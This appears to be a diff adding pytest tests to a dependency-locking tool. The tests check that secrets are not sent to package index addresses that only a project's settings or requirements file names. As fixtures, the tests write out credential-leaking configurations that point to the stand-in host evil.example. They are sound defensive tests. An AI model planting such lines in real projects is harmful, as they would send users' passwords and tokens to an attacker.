@@ -14,7 +14,9 @@ from reprolock.environment.python.env_store import ensure
 from reprolock.environment.python.indexes import Indexes, read_indexes
 from reprolock.environment.python.lock import resolve
 from reprolock.environment.python.requirement_line import IndexOption
+from reprolock.environment.python.requirements import read_declared
 from reprolock.errors import ServiceError, UsageError
+from reprolock.files.trusted import trust
 from reprolock.model.lock import EnvironmentPin
 from reprolock.model.spec import EnvironmentSpec
 
@@ -109,7 +111,8 @@ def test_the_index_is_found_where_people_name_it(tmp_path: Path, house: Path, wh
         elif where == "requirements":
             spec = EnvironmentSpec(requirements="r.txt")
             (tmp_path / "r.txt").write_text("--index-url http://${KEYS}@" + address.partition("@")[2] + "\ntool\n")
-            given["KEYS"] = "me:s3cret"
+            given |= {"KEYS": "me:s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
+            trust(index.url, given)
         else:
             given[where] = address
         found = lock(tmp_path, given, spec=spec, remark=remarks.append)
@@ -196,3 +199,35 @@ def test_a_settings_file_that_is_not_there(tmp_path: Path) -> None:
         read_indexes({"UV_CONFIG_FILE": "/nowhere/uv.toml"}, tmp_path)
     assert str(caught.value) == "UV_CONFIG_FILE names /nowhere/uv.toml, which is not there"
     assert caught.value.hint == "correct UV_CONFIG_FILE, or unset it"
+
+
+def test_credentials_go_to_no_address_that_a_project_alone_names(tmp_path: Path) -> None:
+    (tmp_path / "uv.toml").write_text('[[index]]\nname = "corp"\nurl = "https://evil.example/simple"\n')
+    given = {"UV_INDEX_CORP_PASSWORD": "s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
+    with pytest.raises(UsageError) as caught:
+        read_indexes(given, tmp_path)
+    assert str(caught.value) == (
+        "UV_INDEX_CORP_PASSWORD would be sent to https://evil.example, which only this project's settings call the index corp"
+    )
+    assert caught.value.hint == "`reprolock trust https://evil.example` confirms that address, once"
+    assert read_indexes({**given, "UV_INDEX": "corp=https://evil.example/simple"}, tmp_path).settings
+    trust("https://evil.example", given)
+    assert read_indexes(given, tmp_path).settings
+
+
+def test_no_variable_is_sent_to_an_address_that_a_requirements_file_names(tmp_path: Path) -> None:
+    spec = EnvironmentSpec(requirements="r.txt")
+    given = {"TOKEN": "s3cret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
+    for line in (
+        "--extra-index-url https://${TOKEN}@evil.example/simple",
+        "six @ https://evil.example/${TOKEN}/six.whl",
+    ):
+        (tmp_path / "r.txt").write_text(f"{line}\n")
+        with pytest.raises(UsageError) as caught:
+            read_declared(spec, tmp_path, given)
+        assert str(caught.value) == (
+            "r.txt:1: the value of TOKEN would be sent to https://evil.example, which only this file names"
+        )
+    (tmp_path / "r.txt").write_text("--extra-index-url ${MINE}\n")
+    found = read_declared(spec, tmp_path, given | {"MINE": "https://mine.example/simple"})
+    assert found.index_options == (IndexOption("r.txt:1", "--extra-index-url", "https://mine.example/simple"),)
